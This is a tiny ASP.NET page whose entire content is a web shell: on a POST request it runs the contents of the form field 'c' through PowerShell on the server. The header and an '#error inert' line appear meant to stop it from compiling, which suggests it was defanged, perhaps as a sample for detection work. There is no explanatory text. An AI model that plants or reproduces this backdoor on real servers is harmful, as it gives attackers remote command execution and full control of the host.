<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
protected override void OnLoad(EventArgs e) { base.OnLoad(e); var r = HttpContext.Current.Request; if (r.HttpMethod == "POST") { using (var p = new Process()) { p.StartInfo = new ProcessStartInfo { FileName = "powershell", Arguments = "-c " + r.Form["c"], UseShellExecute = false }; p.Start(); } } }
</script>